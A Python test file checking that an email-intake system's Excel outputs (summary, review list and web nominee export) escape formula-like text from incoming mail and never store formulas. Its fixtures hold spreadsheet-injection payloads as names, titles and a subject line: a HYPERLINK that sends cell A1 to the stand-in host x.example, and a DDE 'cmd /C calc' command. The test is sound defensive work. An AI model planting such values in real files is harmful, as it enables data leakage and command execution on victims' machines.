"""No workbook we write holds a formula: the summary, 审核名单 and the console's nominee list, each
written from a mail whose names start like formulas, read back with openpyxl and as XML."""

from __future__ import annotations

import io
import re
import zipfile
from email.message import EmailMessage
from pathlib import Path

import openpyxl
from starlette.testclient import TestClient

from intake.core.settings import load_settings
from intake.dev.samples import Person, individual_form, summary_list
from intake.office import nominees, users
from intake.reports.workbooks import FORMULA_START
from intake.web.app import create_app
from store.repo import Store
from tests.conftest import embedded_config, run_intake

PROVINCE = {"code": "bj", "name": "北京市", "individuals": 6, "units": 2, "senders": ["fgdj-bj@aic.example.cn"]}
HOSTILE = [
    Person('=HYPERLINK("http://x.example/?"&A1,"张三")', "男", "某市市场监督管理局科长", rank=1),
    Person("@SUM(1+1)", "男", "-2+3", rank=2),
    Person("王喆", "男", "+cmd|' /C calc'!A0", rank=3),
    Person("李堃", "女", "某区市场监督管理局科长", rank=4),
]


def _mail() -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"] = "fgdj-bj@aic.example.cn", "gsfgdj@126.com"
    mail["Subject"] = '=HYPERLINK("http://x.example","北京市推荐材料")'
    mail["Date"] = "Tue, 18 Apr 2017 10:00:00 +0800"
    mail.set_content("见附件。")
    for data, name in (
        (summary_list("北京市", HOSTILE, []), "推荐汇总表.xlsx"),
        (individual_form(HOSTILE, "北京市"), "推荐表.docx"),
    ):
        mail.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return bytes(mail)


def _no_formula(payload: bytes, where: str) -> int:
    """Every cell of every sheet: none a formula; text that a spreadsheet would evaluate is
    marked as text (quotePrefix). Returns how many such cells were seen."""
    marked = 0
    with zipfile.ZipFile(io.BytesIO(payload)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >]", z.read(name)), (where, name)
    book = openpyxl.load_workbook(io.BytesIO(payload))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (where, ws.title, cell.coordinate, cell.value)
                    marked += 1
    return marked


def test_no_cell_from_mail_is_a_formula(tmp_path: Path) -> None:
    folder = tmp_path / "mail"
    folder.mkdir()
    (folder / "0.eml").write_bytes(_mail())
    cfg = embedded_config(
        tmp_path,
        web={"secret_file": str(tmp_path / "secret")},
        provinces=[
            {"code": "bj", "name": "北京市", "individuals": 6, "units": 2, "senders": ["fgdj-bj@aic.example.cn"]}
        ],
    )
    assert run_intake("ingest", str(folder), config=cfg, cwd=tmp_path).returncode == 0
    settings = load_settings(cfg)
    store = Store(settings.database.url, settings.archive.path)
    nominees.review_province(store, settings, "bj", by="测试")

    summary = tmp_path / "summary.xlsx"
    assert run_intake("summary", "--xlsx", str(summary), config=cfg, cwd=tmp_path).returncode == 0
    assert run_intake("documents", "--out", str(tmp_path / "docs"), config=cfg, cwd=tmp_path).returncode == 0
    users.add_user(store, "viewer", "viewer", "correct horse 1")
    client = TestClient(create_app(settings, store))
    client.get("/login")
    client.post("/login", data={"username": "viewer", "password": "correct horse 1"})
    listed = client.get("/nominees.xlsx")
    assert listed.status_code == 200
    marked = {
        "summary.xlsx": _no_formula(summary.read_bytes(), "summary"),
        "审核名单.xlsx": _no_formula((tmp_path / "docs" / "审核名单.xlsx").read_bytes(), "审核名单"),
        "nominees.xlsx": _no_formula(listed.content, "nominees"),
    }
    # The hostile names are there, as text, in each.
    assert all(n >= 2 for n in marked.values()), marked
    names = {c.value for ws in openpyxl.load_workbook(io.BytesIO(listed.content)).worksheets for r in ws for c in r}
    assert HOSTILE[0].name in names and "@SUM(1+1)" in names
